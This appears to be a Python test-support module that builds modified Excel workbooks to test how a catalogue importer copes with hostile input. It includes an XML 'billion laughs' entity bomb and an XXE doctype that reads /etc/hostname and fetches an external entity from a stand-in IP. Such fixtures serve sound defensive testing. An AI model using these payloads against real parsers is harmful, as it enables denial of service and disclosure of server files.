"""A sound catalogue's workbook as its parts, and what can be done to them."""

import io
import re
import zipfile
from collections.abc import Iterator, Mapping
from functools import cache

from tests.support.catalogue_files import xlsx
from tests.support.cities import CHANGSHA
from tests.support.dirty_catalogues import make
from tests.support.hostile.zips import Member, archive, member

SHEET, STRINGS, STYLES = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"
BOOK, BOOK_RELATIONS, TYPES = "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"

LAUGHS = b"<!DOCTYPE lolz [<!ENTITY a0 'ha'>%s]>" % b"".join(
    b"<!ENTITY a%d '%s'>" % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
)
OUTSIDE = b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/hostname'><!ENTITY % c SYSTEM 'http://192.0.2.1/d'> %c;]>"

Parts = dict[str, bytes]


@cache
def sound() -> bytes:
    """The workbook of a dirty catalogue as a city sends it."""
    return xlsx(make(0, CHANGSHA))[0]


def parts() -> Parts:
    """Its parts, in order."""
    with zipfile.ZipFile(io.BytesIO(sound())) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(*changed: Mapping[str, bytes], **more: Mapping[str, object]) -> bytes:
    """The workbook with parts changed or added. `more`: what the headers of single parts say, see `Member`."""
    return archive(list(members(*changed, **more)))


def members(*changed: Mapping[str, bytes], **more: Mapping[str, object]) -> Iterator[Member]:
    """The same as members of an archive; `more` by the part's name without folder and type."""
    whole = parts()
    for one in changed:
        whole |= one
    for name, content in whole.items():
        yield member(name, content, **more.get(re.sub(r".*/|\..*", "", name), {}))


def rewritten(name: str, old: bytes, new: bytes) -> Parts:
    """A part with the first `old` replaced."""
    before = parts()[name]
    assert old in before, (name, old)
    return {name: before.replace(old, new, 1)}


def in_rows(more: bytes) -> Parts:
    """The sheet with more XML behind its last row."""
    return rewritten(SHEET, b"</sheetData>", more + b"</sheetData>")


def after_rows(more: bytes) -> Parts:
    """The sheet with more XML behind its rows."""
    return rewritten(SHEET, b"</sheetData>", b"</sheetData>" + more)


def declared(name: str, doctype: bytes) -> Parts:
    """A part with a document type before its root."""
    bare = re.sub(rb"^\s*<\?xml[^>]*\?>", b"", parts()[name])
    return {name: b"<?xml version='1.0' encoding='UTF-8'?>" + doctype + bare}


def sheets_more(count: int, target: str | None = None) -> Parts:
    """The workbook with so many more visible sheets, of parts of their own or all of one."""
    named = b"".join(
        b'<sheet xmlns:r="%s" name="S%d" sheetId="%d" r:id="more%d"/>' % (RELATIONS.encode(), n, n + 100, n) for n in range(count)
    )
    related = b"".join(
        b'<Relationship Id="more%d" Type="%s/worksheet" Target="/%s"/>'
        % (n, RELATIONS.encode(), (target or f"xl/worksheets/more{n}.xml").encode())
        for n in range(count)
    )
    return rewritten(BOOK, b"</sheets>", named + b"</sheets>") | rewritten(
        BOOK_RELATIONS, b"</Relationships>", related + b"</Relationships>"
    )


def with_strings(content: bytes) -> Parts:
    """The workbook with texts of its own part (its cells bring their own)."""
    relation = b'<Relationship Id="texts" Type="%s/sharedStrings" Target="sharedStrings.xml"/>' % RELATIONS.encode()
    return {STRINGS: content} | rewritten(BOOK_RELATIONS, b"</Relationships>", relation + b"</Relationships>")


def sheet_of(rows: bytes) -> Parts:
    """The workbook whose sheet has only these rows."""
    return {SHEET: b'<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (MAIN, rows)}


def strings_of(texts: bytes) -> Parts:
    """The workbook with only these texts in their part."""
    return with_strings(b'<sst xmlns="%s">%s</sst>' % (MAIN, texts))
